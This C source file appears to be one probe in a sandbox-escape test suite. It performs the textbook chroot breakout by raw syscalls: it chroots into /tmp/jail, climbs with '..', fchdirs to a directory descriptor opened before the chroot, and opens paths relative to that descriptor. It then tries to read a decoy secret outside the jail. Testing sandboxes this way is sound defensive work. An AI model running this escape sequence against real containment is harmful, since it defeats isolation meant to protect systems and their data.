// The textbook chroot break: chroot into a subdirectory while keeping a
// cwd outside it, then climb. Plus fchdir to a dirfd opened before chroot.
#include "attack.h"

int main(void) {
  announce();
  const char* decoy = host("ESC_DECOY");
  char path[8192];
  RAW2(SYS_mkdir, "/tmp/jail", 0755);
  long outside = RAW4(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY, 0);
  step("chroot_sub", RAW1(SYS_chroot, "/tmp/jail"));
  for (int i = 0; i < 64; ++i) RAW1(SYS_chdir, "..");
  try_read("after_chroot_rel", "decoy/secret");
  try_read("after_chroot_dotdot", "../decoy/secret");
  step("fchdir_outside", RAW1(SYS_fchdir, outside));
  for (int i = 0; i < 64; ++i) RAW1(SYS_chdir, "..");
  step("chroot_dot", RAW1(SYS_chroot, "."));
  try_read("after_fchdir_rel", "decoy/secret");
  snprintf(path, sizeof path, "%s", decoy);
  try_read("after_fchdir_host_path", path);
  long fd =
      step("openat_outside_dotdot", RAW4(SYS_openat, outside, "../decoy/secret", O_RDONLY, 0));
  dump_fd("openat_outside_dotdot", fd);
  return done();
}
